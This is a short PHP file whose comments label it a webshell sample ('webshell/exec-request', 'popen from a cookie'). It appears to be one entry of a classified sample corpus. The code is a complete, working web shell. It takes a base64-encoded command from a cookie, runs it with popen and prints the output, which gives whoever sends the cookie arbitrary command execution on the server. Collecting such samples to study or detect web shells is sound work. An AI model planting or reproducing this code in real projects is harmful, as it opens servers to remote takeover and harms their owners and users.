<?php
// Family: webshell/exec-request
// Style: popen from a cookie
// Trait: cookie-supplied command read through popen
$h = popen(base64_decode($_COOKIE['c']), 'r');
while (!feof($h)) echo fread($h, 4096);
pclose($h);
